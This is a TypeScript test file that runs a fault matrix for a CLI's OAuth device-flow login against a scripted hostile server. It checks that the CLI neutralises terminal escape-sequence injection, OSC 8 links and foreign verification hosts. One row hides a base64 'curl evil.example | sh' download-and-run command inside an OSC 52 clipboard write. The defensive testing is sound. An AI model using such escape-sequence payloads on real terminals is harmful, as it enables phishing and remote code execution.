/**
 * The CLI rows of the fault matrix (packages/node-http/test/faults has the
 * library's): `devflow login --issuer … --json` against the scriptable fault
 * server of `@devflow/dev-server/faults`, through discovery, the shipped
 * bundle and its real HTTP stack. For each fault: the exit code, the time to
 * it, one error line (plus a hint) on stderr, the JSON `error` event last on
 * stdout, no stack trace; and no hang. Four processes at a time. The table is
 * printed at the end.
 *
 * The CLI's HTTP request timeout is node-http's default, 30 s: the rows where
 * a server never answers take over half a minute and run only with
 * `CLI_FAULTS=full`.
 *
 * The hostile-content rows (issue 20) put escape sequences and foreign hosts
 * in what the server says; every row checks that no control character other
 * than a line break reaches stdout or stderr, and what was opened (a stand-in
 * xdg-open on PATH) and QR-encoded.
 */
import {
  closeBeforeAnswer,
  drip,
  type Fault,
  type FaultServer,
  type Handler,
  hang,
  huge,
  json,
  redirect,
  reply,
  resetMidBody,
  seq,
  startFaultServer
} from "@devflow/dev-server/faults"
import * as fs from "node:fs"
import * as path from "node:path"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { devflow, type Run, tempDir } from "./helpers.js"
import { qrInPrompt } from "./qr.js"

const FULL = process.env.CLI_FAULTS === "full"
/** a stack frame line, as Node prints them */
const STACK = /^\s+at .*(:\d+:\d+\)?|\(native\))$/m
const WELL_KNOWN = "/.well-known/openid-configuration"
const DEVICE = "/device/auth"
const TOKEN = "/token"

const jwt = (claims: Readonly<Record<string, unknown>>) =>
  `${Buffer.from(JSON.stringify({ alg: "none" })).toString("base64url")}.${
    Buffer.from(JSON.stringify(claims)).toString("base64url")
  }.c2ln`

const metadata: Handler = ({ origin }) =>
  json({ issuer: origin, device_authorization_endpoint: `${origin}${DEVICE}`, token_endpoint: `${origin}${TOKEN}` })
const code = (fields: Readonly<Record<string, unknown>> = {}): Handler => ({ origin }) =>
  json({
    device_code: "dc-faults",
    user_code: "BCDF-GHJK",
    verification_uri: `${origin}/device`,
    expires_in: 60,
    interval: 1,
    ...fields
  })
const tokenBody = (origin: string, fields: Readonly<Record<string, unknown>> = {}) => ({
  access_token: "at-faults",
  token_type: "Bearer",
  expires_in: 3600,
  refresh_token: "rt-faults",
  id_token: jwt({ iss: origin, sub: "fault-user", aud: "devflow-faults" }),
  ...fields
})
const tokens = (fields: Readonly<Record<string, unknown>> = {}): Handler => ({ origin }) =>
  json(tokenBody(origin, fields))
const once = (fault: Fault | Handler, then: Handler = tokens()): Handler => seq(fault, then)
const html = "<!DOCTYPE html><html><body>Maintenance</body></html>"
const ESC = "\x1b"
/** an erase-line and carriage return, then a line of the attacker's choosing */
const redraw = (line: string) => `${ESC}[2K\r${line}`
const EVIL = "https://evil.example/device"
/** anything a terminal acts on, except the line breaks the CLI writes itself */
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/

interface Row {
  readonly fault: string
  readonly where: "discovery" | "device endpoint" | "token endpoint" | "both"
  readonly script: (other: string) => Readonly<Record<string, Handler>>
  /** the issuer points at a port nothing listens on */
  readonly refused?: boolean
  readonly exit: number
  /** expected seconds to the outcome, without the CLI's start-up */
  readonly seconds: number
  readonly slow?: boolean
  /** flags for `devflow login` instead of `--no-qr` */
  readonly flags?: ReadonlyArray<string>
  /** a stand-in xdg-open on PATH (Linux only) that records the address it is given and exits with this code */
  readonly opener?: number
  /** commands run after the login on the same cache directory */
  readonly then?: ReadonlyArray<ReadonlyArray<string>>
  /** what else must hold */
  readonly check?: (result: Result) => void
  /** the token endpoint's poll instants, in seconds after the device endpoint answered, as the fault server recorded them */
  readonly polls?: ReadonlyArray<number>
}

const rows: ReadonlyArray<Row> = [
  {
    fault: "none (baseline)",
    where: "both",
    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: code(), [TOKEN]: tokens() }),
    exit: 0,
    seconds: 1
  },
  {
    fault: "HTTP 503 once",
    where: "token endpoint",
    script: () => ({
      [WELL_KNOWN]: metadata,
      [DEVICE]: code(),
      [TOKEN]: once(reply(html, "text/html", { status: 503 }))
    }),
    exit: 0,
    seconds: 3
  },
  {
    fault: "HTTP 500, Retry-After: 4, once",
    where: "token endpoint",
    script: () => ({
      [WELL_KNOWN]: metadata,
      [DEVICE]: code(),
      [TOKEN]: once(reply("", "text/plain", { status: 500, headers: { "retry-after": "4" } }))
    }),
    exit: 0,
    seconds: 5
  },
  {
    fault: "HTTP 429, Retry-After: 3, once",
    where: "device endpoint",
    script: () => ({
      [WELL_KNOWN]: metadata,
      [DEVICE]: once(reply("", "text/plain", { status: 429, headers: { "retry-after": "3" } }), code()),
      [TOKEN]: tokens()
    }),
    exit: 0,
    seconds: 4
  },
  {
    fault: "connection reset mid-body, once",
    where: "token endpoint",
    script: () => ({
      [WELL_KNOWN]: metadata,
      [DEVICE]: code(),
      [TOKEN]: once(({ origin }) => resetMidBody(JSON.stringify(tokenBody(origin))))
    }),
    exit: 0,
    seconds: 3
  },
  {
    fault: "connection closed before any answer, once",
    where: "device endpoint",
    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: once(closeBeforeAnswer, code()), [TOKEN]: tokens() }),
    exit: 0,
    seconds: 2
  },
  { fault: "connection refused", where: "discovery", script: () => ({}), refused: true, exit: 5, seconds: 0 },
  {
    fault: "HTTP 503 always",
    where: "discovery",
    script: () => ({ [WELL_KNOWN]: seq(reply(html, "text/html", { status: 503 })) }),
    exit: 5,
    seconds: 0
  },
  {
    fault: "HTML page with HTTP 200 at every metadata location",
    where: "discovery",
    script: () => ({
      [WELL_KNOWN]: () => reply(html, "text/html"),
      "/.well-known/oauth-authorization-server": () => reply(html, "text/html")
    }),
    exit: 6,
    seconds: 0
  },
  {
    fault: "metadata naming another issuer",
    where: "discovery",
    script: () => ({
      [WELL_KNOWN]: () =>
        json({
          issuer: "https://idp.example",
          device_authorization_endpoint: "https://idp.example/d",
          token_endpoint: "https://idp.example/t"
        })
    }),
    exit: 6,
    seconds: 0
  },
  {
    fault: "slow drip (20 bytes / 100 ms)",
    where: "token endpoint",
    script: () => ({
      [WELL_KNOWN]: metadata,
      [DEVICE]: code(),
      [TOKEN]: ({ origin }) => drip(JSON.stringify(tokenBody(origin)).padEnd(200), { bytes: 20, everyMs: 100 })
    }),
    exit: 0,
    seconds: 2
  },
  {
    fault: "HTML page with HTTP 200",
    where: "token endpoint",
    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: code(), [TOKEN]: () => reply(html, "text/html") }),
    exit: 6,
    seconds: 1
  },
  {
    fault: "truncated JSON",
    where: "token endpoint",
    script: () => ({
      [WELL_KNOWN]: metadata,
      [DEVICE]: code(),
      [TOKEN]: ({ origin }) => json(JSON.stringify(tokenBody(origin)).slice(0, 50))
    }),
    exit: 6,
    seconds: 1
  },
  {
    fault: "10 MiB body, chunked",
    where: "token endpoint",
    script: () => ({
      [WELL_KNOWN]: metadata,
      [DEVICE]: code(),
      [TOKEN]: () => huge(10 * 1_048_576, { contentLength: false })
    }),
    exit: 6,
    seconds: 1
  },
  {
    fault: "10 MiB body with Content-Length",
    where: "device endpoint",
    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: () => huge(10 * 1_048_576, { contentLength: true }) }),
    exit: 6,
    seconds: 0
  },
  {
    fault: "JSON labelled text/plain",
    where: "both",
    script: () => ({
      [WELL_KNOWN]: metadata,
      [DEVICE]: ({ origin }) =>
        reply(
          JSON.stringify({
            device_code: "dc",
            user_code: "BCDF-GHJK",
            verification_uri: `${origin}/device`,
            expires_in: 60,
            interval: 1
          }),
          "text/plain"
        ),
      [TOKEN]: ({ origin }) => reply(JSON.stringify(tokenBody(origin)), "text/plain")
    }),
    exit: 0,
    seconds: 1
  },
  {
    fault: "device_code missing",
    where: "device endpoint",
    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: code({ device_code: undefined }) }),
    exit: 6,
    seconds: 0
  },
  {
    fault: "interval \"abc\"",
    where: "device endpoint",
    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: code({ interval: "abc" }) }),
    exit: 6,
    seconds: 0
  },
  {
    fault: "expires_in -60",
    where: "device endpoint",
    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: code({ expires_in: -60 }) }),
    exit: 6,
    seconds: 0
  },
  {
    fault: "expires_in 2 s, never approved",
    where: "both",
    script: () => ({
      [WELL_KNOWN]: metadata,
      [DEVICE]: code({ expires_in: 2 }),
      [TOKEN]: () => json({ error: "authorization_pending" }, { status: 400 })
    }),
    exit: 4,
    seconds: 1
  },
  {
    // RFC 8628 §3.5: the interval only grows; 1e306 s is Infinity ms, which once became the 5 s default
    fault: "slow_down with interval 1e306",
    where: "token endpoint",
    script: () => ({
      [WELL_KNOWN]: metadata,
      [DEVICE]: code(),
      [TOKEN]: () => json({ error: "slow_down", interval: 1e306 }, { status: 400 })
    }),
    exit: 4,
    seconds: 1,
    polls: [1]
  },
  {
    fault: "access_denied",
    where: "token endpoint",
    script: () => ({
      [WELL_KNOWN]: metadata,
      [DEVICE]: code(),
      [TOKEN]: () => json({ error: "access_denied" }, { status: 400 })
    }),
    exit: 3,
    seconds: 1
  },
  {
    fault: "302 to another host",
    where: "token endpoint",
    script: (other) => ({ [WELL_KNOWN]: metadata, [DEVICE]: code(), [TOKEN]: () => redirect(302, `${other}${TOKEN}`) }),
    exit: 6,
    seconds: 1
  },
  {
    fault: "307 to the same host",
    where: "device endpoint",
    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: ({ origin }) => redirect(307, `${origin}/elsewhere`) }),
    exit: 6,
    seconds: 0
  },
  {
    fault: "id_token not a JWT",
    where: "token endpoint",
    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: code(), [TOKEN]: tokens({ id_token: "not-a-jwt" }) }),
    exit: 6,
    seconds: 1
  },
  {
    fault: "verification_uri that erases the line and draws another address",
    where: "device endpoint",
    script: () => ({
      [WELL_KNOWN]: metadata,
      [DEVICE]: code({ verification_uri: redraw(`  To sign in, open ${EVIL}`) })
    }),
    exit: 6,
    seconds: 0,
    check: ({ run }) => {
      expect(run.stderr).toMatch(/verification_uri/)
      expect(run.stderr + run.stdout).not.toMatch(/evil/)
    }
  },
  {
    fault: "user_code carrying an OSC 8 hyperlink",
    where: "device endpoint",
    script: () => ({
      [WELL_KNOWN]: metadata,
      [DEVICE]: code({ user_code: `${ESC}]8;;https://evil.example/${ESC}\\BCDF-GHJK${ESC}]8;;${ESC}\\` })
    }),
    exit: 6,
    seconds: 0,
    check: ({ run }) => expect(run.stderr).toMatch(/user_code/)
  },
  {
    fault: "user_code carrying an OSC 52 clipboard write",
    where: "device endpoint",
    script: () => ({
      [WELL_KNOWN]: metadata,
      [DEVICE]: code({ user_code: `BCDF-GHJK${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07` })
    }),
    exit: 6,
    seconds: 0,
    check: ({ run }) => expect(run.stderr + run.stdout).not.toMatch(/Y3VybC/)
  },
  {
    fault: "error_description with escape sequences",
    where: "token endpoint",
    script: () => ({
      [WELL_KNOWN]: metadata,
      [DEVICE]: code(),
      [TOKEN]: () =>
        json({ error: "access_denied", error_description: `Denied.${redraw("Signed in as admin")}\u009b32m` }, {
          status: 400
        })
    }),
    exit: 3,
    seconds: 1,
    check: ({ run }) => expect(run.stderr).toMatch(/Denied\. ?Signed in as admin/)
  },
  {
    fault: "id_token name that rewrites the success line (then accounts, accounts --json)",
    where: "token endpoint",
    script: () => ({
      [WELL_KNOWN]: metadata,
      [DEVICE]: code(),
      [TOKEN]: ({ origin }) =>
        json(
          tokenBody(origin, {
            id_token: jwt({
              iss: origin,
              sub: "fault-user",
              aud: "devflow-faults",
              name: `${redraw("Signed in as admin")}\u009b31m`
            })
          })
        )
    }),
    exit: 0,
    seconds: 1,
    then: [["accounts"], ["accounts", "--json"]],
    check: ({ run, then }) => {
      expect(run.stderr).toMatch(/^Signed in as Signed in as admin 31m \(profile/m)
      expect(JSON.parse(run.stdout.trim().split("\n").at(-1)!).account.name).toBe("Signed in as admin 31m")
      expect(then[0]!.code, then[0]!.stderr).toBe(0)
      expect(then[0]!.stdout + then[0]!.stderr).toMatch(/Signed in as admin 31m/)
      expect(then[1]!.code, then[1]!.stderr).toBe(0)
      expect(then[1]!.stdout).toMatch(/"name":"Signed in as admin 31m"/)
    }
  },
  {
    fault: "verification_uri_complete on another host (QR code, --open)",
    where: "device endpoint",
    script: () => ({
      [WELL_KNOWN]: metadata,
      [DEVICE]: code({ verification_uri_complete: `${EVIL}?user_code=BCDF-GHJK` }),
      [TOKEN]: tokens()
    }),
    flags: ["--open"],
    opener: 0,
    exit: 0,
    seconds: 1,
    check: ({ opened, origin, run }) => {
      // RFC 8628 §5.4: the page where the code is typed is the one vouched for
      expect(qrInPrompt(run.stderr)).toBe(`${origin}/device`)
      expect(opened).toBe(`${origin}/device`)
      expect(run.stderr).toMatch(/Warning: .*evil\.example/)
      expect(run.stderr).toMatch(/Opened the verification page/)
    }
  },
  {
    fault: "verification_uri on another host (QR code, --open)",
    where: "device endpoint",
    script: () => ({
      [WELL_KNOWN]: metadata,
      [DEVICE]: code({ verification_uri: EVIL, verification_uri_complete: `${EVIL}?user_code=BCDF-GHJK` }),
      [TOKEN]: tokens()
    }),
    flags: ["--open"],
    opener: 0,
    exit: 0,
    seconds: 1,
    check: ({ opened, run }) => {
      expect(opened).toBeUndefined()
      expect(run.stderr).not.toMatch(/Or scan this/)
      expect(run.stderr).toMatch(/Warning: .*evil\.example/)
      expect(run.stderr).not.toMatch(/Opened/)
      expect(run.stderr.split("\n").filter((l) => /by hand/.test(l))).toHaveLength(1)
    }
  },
  {
    fault: "--open where xdg-open exits 3 (no method available)",
    where: "device endpoint",
    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: code(), [TOKEN]: tokens() }),
    flags: ["--no-qr", "--open"],
    opener: 3,
    exit: 0,
    seconds: 1,
    check: ({ opened, origin, run }) => {
      expect(opened).toBe(`${origin}/device`)
      expect(run.stderr).not.toMatch(/Opened/)
      expect(run.stderr.split("\n").filter((l) => /by hand/.test(l))).toHaveLength(1)
    }
  },
  {
    fault: "accepts, never answers, once",
    where: "token endpoint",
    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: code(), [TOKEN]: once(hang) }),
    exit: 0,
    // the 30 s request timeout, then the 2 s backoff
    seconds: 1 + 30 + 2,
    slow: true
  }
]

// start-up of the bundle (loading Effect, @effect/cli, then undici): at least this, however fast the machine
const STARTUP_S = 0.2
// the allowed lateness from the first request to the exit; the start-up before it is not counted, since
// on a busy machine loading the bundle alone can take seconds (wallClock's rule: bound what the row is about)
const SLACK_S = 8

interface Result {
  readonly run: Run
  readonly otherHits: number
  /** from the first request the fault server saw to the process's exit (the whole run when none was seen) */
  readonly protocolMs: number
  /** the fault server's origin (the issuer) */
  readonly origin: string
  /** what the stand-in xdg-open was given, if it ran */
  readonly opened: string | undefined
  readonly then: ReadonlyArray<Run>
  /** the token endpoint's hits, in s after the device endpoint's */
  readonly polls: ReadonlyArray<number>
}

/** A stand-in xdg-open: records its argument (atomically: the test may read the file at any time), then exits with `code`. */
const fakeOpener = (dir: string, code: number) => {
  const bin = path.join(dir, "bin")
  fs.mkdirSync(bin)
  fs.writeFileSync(
    path.join(bin, "xdg-open"),
    `#!/bin/sh\nprintf '%s' "$1" > "${dir}/opened.tmp" && mv "${dir}/opened.tmp" "${dir}/opened"\nexit ${code}\n`,
    { mode: 0o755 }
  )
  return bin
}

/** The opener is started detached: give it a moment to leave its record. */
const openedIn = async (dir: string): Promise<string | undefined> => {
  const file = path.join(dir, "opened")
  for (let i = 0; i < 20 && !fs.existsSync(file); i++) await new Promise((r) => setTimeout(r, 100))
  return fs.existsSync(file) ? fs.readFileSync(file, "utf8") : undefined
}

let results: Promise<ReadonlyArray<Result | undefined>>

const runRow = async (row: Row): Promise<Result> => {
  const other = await startFaultServer({})
  const server: FaultServer | undefined = row.refused === true
    ? undefined
    : await startFaultServer(row.script(other.origin))
  const dir = tempDir("devflow-cli-faults-")
  const tools = tempDir("devflow-cli-faults-tools-")
  try {
    const issuer = server?.origin ?? "http://127.0.0.2:9"
    const env = {
      // no colour and an unknown background, as on any pipe
      COLORFGBG: undefined,
      ...(row.opener === undefined
        ? {}
        : { PATH: `${fakeOpener(tools, row.opener)}${path.delimiter}${process.env.PATH}` })
    }
    const flags = row.flags ?? ["--no-qr"]
    const run = await devflow([
      "login",
      "--issuer",
      issuer,
      "--client-id",
      "devflow-faults",
      ...flags,
      "--json",
      "--cache-dir",
      dir
    ], { env })
    const exitedAt = Date.now()
    const first = server?.hits[0]?.at
    const device = server?.hits.find((h) => h.path === DEVICE)?.at ?? 0
    const polls = (server?.hits ?? []).filter((h) => h.path === TOKEN).map((h) => (h.at - device) / 1000)
    const opened = row.opener === undefined ? undefined : await openedIn(tools)
    const then: Array<Run> = []
    for (const args of row.then ?? []) then.push(await devflow([...args, "--cache-dir", dir], { env }))
    return {
      run,
      otherHits: other.hits.length,
      protocolMs: first === undefined ? run.ms : exitedAt - first,
      origin: issuer,
      opened,
      then,
      polls
    }
  } finally {
    fs.rmSync(tools, { recursive: true, force: true })
    await server?.close()
    await other.close()
    fs.rmSync(dir, { recursive: true, force: true })
  }
}

const pool = async <A>(n: number, jobs: ReadonlyArray<() => Promise<A>>): Promise<Array<A>> => {
  const out: Array<A> = []
  let next = 0
  await Promise.all(Array.from({ length: n }, async () => {
    while (next < jobs.length) {
      const i = next++
      out[i] = await jobs[i]!()
    }
  }))
  return out
}

// the stand-in opener is an xdg-open
const runs = rows.map((row) =>
  (row.slow !== true || FULL) && (row.opener === undefined || process.platform === "linux")
)

beforeAll(() => {
  results = pool(4, rows.map((row, i) => () => (runs[i] ? runRow(row) : Promise.resolve(undefined))))
  results.catch(() => {})
}, 10_000)

afterAll(async () => {
  const all = await results.catch(() => [] as ReadonlyArray<Result | undefined>)
  const lines = rows.map((row, i) => {
    const r = all[i]
    if (r === undefined) return `| ${i + 1} | ${row.fault} | ${row.where} | (not run: CLI_FAULTS=full) | | |`
    const last = r.run.stdout.trim().split("\n").at(-1) ?? ""
    let outcome = `exit ${r.run.code}`
    try {
      const event = JSON.parse(last) as { readonly event?: string; readonly error?: string }
      if (event.event === "error") outcome += ` (${event.error})`
    } catch {
      // not JSON
    }
    return `| ${i + 1} | ${row.fault} | ${row.where} | ${outcome} | ${(r.run.ms / 1000).toFixed(2)} s / ${
      (r.protocolMs / 1000).toFixed(2)
    } s | ${row.seconds}–${row.seconds + SLACK_S} s |`
  })
  console.info(
    `[faults] CLI: ${rows.length} faults through \`devflow login --json\`\n| # | fault | where | outcome | time (process / from its first request) | expected |\n|---|---|---|---|---|---|\n${
      lines.join("\n")
    }`
  )
})

describe("CLI fault matrix: devflow login against hostile servers", () => {
  rows.forEach((row, i) => {
    const test = runs[i] ? it : it.skip
    test(
      `${i + 1}. ${row.fault} (${row.where}) → exit ${row.exit} in ${row.seconds} s`,
      { timeout: 240_000 },
      async () => {
        const result = (await results)[i]!
        const { otherHits, polls, protocolMs, run } = result
        expect(run.signal, run.stderr).toBeNull()
        for (const output of [run, ...result.then]) {
          // nor escaped inside a JSON line, where a reader of the value would print it
          expect(output.stdout, output.stderr).not.toMatch(/\\u00(?:[01][0-9a-f]|7f|[89][0-9a-f])/i)
          expect(output.stdout + output.stderr).not.toMatch(CONTROL)
        }
        row.check?.(result)
        expect(run.code, run.stderr).toBe(row.exit)
        expect(run.ms, run.stderr).toBeGreaterThanOrEqual((row.seconds + STARTUP_S) * 1000 - 100)
        expect(protocolMs, run.stderr).toBeLessThanOrEqual((row.seconds + SLACK_S) * 1000)
        expect(run.stderr + run.stdout).not.toMatch(STACK)
        expect(otherHits).toBe(0)
        if (row.polls !== undefined) {
          expect(polls.length, `polls at ${polls.join(", ")} s`).toBe(row.polls.length)
          // never early; a second late only on a loaded machine
          polls.forEach((at, k) => expect(at).toBeGreaterThanOrEqual(row.polls![k]! - 0.05))
        }
        const events = run.stdout.trim().split("\n").map((l) => JSON.parse(l) as Record<string, unknown>)
        if (row.exit === 0) {
          expect(events.at(-1)).toMatchObject({ event: "result" })
          return
        }
        expect(events.at(-1)).toMatchObject({ event: "error", exit_code: row.exit })
        // one error line, at most one hint, at the end of stderr (the prompt may come first)
        const failure = run.stderr.slice(run.stderr.lastIndexOf("devflow: ")).trimEnd().split("\n")
        expect(failure.length, run.stderr).toBeLessThanOrEqual(2)
        if (failure.length === 2) expect(failure[1]).toMatch(/^ {2}hint: /)
        expect(run.stderr).not.toMatch(/internal error/)
      }
    )
  })
})
